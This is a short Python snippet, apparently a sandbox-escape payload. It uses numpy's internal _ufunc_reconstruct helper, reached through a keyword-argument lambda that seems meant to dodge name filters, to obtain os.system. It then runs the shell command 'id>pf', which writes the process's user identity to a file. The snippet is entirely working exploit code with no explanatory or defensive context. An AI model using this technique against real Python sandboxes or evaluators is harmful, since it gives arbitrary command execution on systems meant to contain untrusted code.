import numpy as np
(lambda **k: k['a'])(a=np).core._ufunc_reconstruct('os', 'system')('id>pf')
